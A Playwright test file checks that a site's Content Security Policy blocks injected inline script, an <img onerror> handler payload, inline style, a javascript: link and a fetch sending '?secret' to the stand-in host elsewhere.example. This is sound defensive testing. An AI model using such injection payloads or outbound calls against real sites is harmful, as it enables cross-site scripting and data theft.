import { routes } from '@/lib/routes';
import { expect, test } from './fixtures';

test.use({ allow: { messages: [/policy violation|Content.Security.Policy|^Refused to/i] } });

test('the security policy runs no inline script, handler or style, evaluates no text as code, and asks and tells no other host', async ({
  page,
}) => {
  await page.goto(routes.about);
  const outcome = await page.evaluate(async () => {
    const script = document.createElement('script');
    script.textContent = 'document.title = "taken over"';
    const box = document.createElement('div');
    box.innerHTML =
      '<img src="data:," onerror="document.title = \'taken over\'"><p style="color: red">red</p>';
    document.body.append(script, box);
    await new Promise((resolve) => setTimeout(resolve, 200));
    const paragraph = box.querySelector('p');
    return {
      title: document.title,
      color: paragraph && getComputedStyle(paragraph).color,
    };
  });
  expect(outcome.title).not.toBe('taken over');
  expect(outcome.color).not.toBe('rgb(255, 0, 0)');

  const refused = page.waitForEvent('console', (message) => /policy/i.test(message.text()));
  await page.evaluate(() => {
    const link = document.createElement('a');
    link.href = 'javascript:document.title="taken over"';
    document.body.append(link);
    link.click();
  });
  await refused;
  expect(await page.title()).not.toBe('taken over');

  const answer = await page.evaluate(() =>
    fetch('https://elsewhere.example/?secret').then(
      () => 'sent',
      () => 'refused',
    ),
  );
  expect(answer).toBe('refused');
});
